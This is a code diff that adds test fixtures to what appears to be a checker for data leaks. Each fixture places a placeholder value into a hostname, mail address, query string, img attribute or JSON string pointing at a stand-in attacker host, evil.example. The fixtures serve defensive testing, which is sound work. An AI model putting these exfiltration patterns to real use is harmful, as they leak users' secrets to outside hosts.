@@ -30,6 +30,12 @@ const kept: Readonly<Record<string, string>> = {
   'an address to mail to': 'mailto:evil@example.org?body=$',
   'the name of a host': '$.evil.example',
   'an address of mail': '$@evil.example',
+  'the beginning of a host': '$-x.evil.example/',
+  'the beginning of a host with an underscore': '$_1-x.evil.example',
+  'the beginning of an address of mail': '$+x@evil.example',
+  'the beginning of an address of mail with dots': '$.-x.y@evil.example',
+  'an address that goes on in the next string of JSON': '["https://evil.example/?q=","$"]',
+  'an address that goes on behind a key of JSON': '{"https://evil.example/?q=":"$"}',
   'an attribute': '<img src="https://evil.example/?q= $">',
   'an attribute in single quotes': "<img alt='>' src='//evil.example/?q= $'>",
   'an attribute without quotes': '<img src=$>',
@@ -68,6 +74,9 @@ const kept: Readonly<Record<string, string>> = {
 
 const open: Readonly<Record<string, string>> = {
   'text behind an address': 'See https://evil.example/?q=1 and ask $.',
+  'text behind an address in JSON': '{"a":"https://evil.example/","to": "$"}',
+  'text behind an address in the same string of JSON': '["https://evil.example/","Dear $"]',
+  'a sentence behind another': '$. The-end. $-x',
   'text behind a link': 'See [there](https://evil.example/(a)?q=1) and ask $.',
   'text behind a tag': '<a href="https://evil.example/">x</a> $',
   'the text of a link': '[$](https://evil.example/)',
